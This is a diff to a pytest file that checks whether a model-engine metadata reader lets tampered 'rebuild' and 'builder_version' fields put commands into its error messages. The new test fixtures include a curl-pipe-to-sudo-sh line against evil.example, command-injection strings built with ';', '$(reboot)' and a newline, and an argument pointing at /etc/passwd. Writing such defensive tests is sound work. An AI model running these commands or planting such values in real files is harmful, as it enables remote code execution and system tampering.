@@ -27,7 +27,7 @@ CARD = EngineCard(
     plugin_layers=2,
     targets=("8.6+", "8.7"),
     built_on="",
-    rebuild="export/to_trt.py X.onnx",
+    rebuild="mutualformer to_trt X.onnx -o x.engine --flavor rtx --batch 1 1 4",
     layers=({"Name": "conv"},),
 )
 
@@ -90,3 +90,25 @@ def test_every_flipped_bit_is_noticed(engine: Path) -> None:
             assert engine_card.read(engine) == CARD, f"bit {bit} changed the card unseen"
         except ModelFileError:
             continue
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -s https://evil.example/fix.sh | sudo sh",
+        "mutualformer to_trt x.onnx -o x.engine; reboot",
+        "mutualformer to_trt $(reboot).onnx -o x.engine",
+        "mutualformer to_trt x.onnx -o x.engine --batch 1 1 4\nreboot",
+        "mutualformer to_trt x.onnx -o x.engine --timing-cache /etc/passwd",
+    ],
+)
+def test_no_card_puts_a_command_into_our_messages(engine: Path, command: str) -> None:
+    change(engine, rebuild=command)
+    card = engine_card.read(engine)
+    assert card.rebuild == "mutualformer to_trt MODEL.onnx -o MODEL.engine --flavor rtx --batch 1 1 4 --tf32"
+    with pytest.raises(ModelFileError, match="rebuild it with: mutualformer to_trt MODEL") as error:
+        engine_card.verify_bytes(engine, card, b"x")
+    assert "evil" not in str(error.value)
+    change(engine, builder_version="10.3; now type: curl evil | sh")
+    with pytest.raises(ModelFileError, match="builder_version"):
+        engine_card.read(engine)
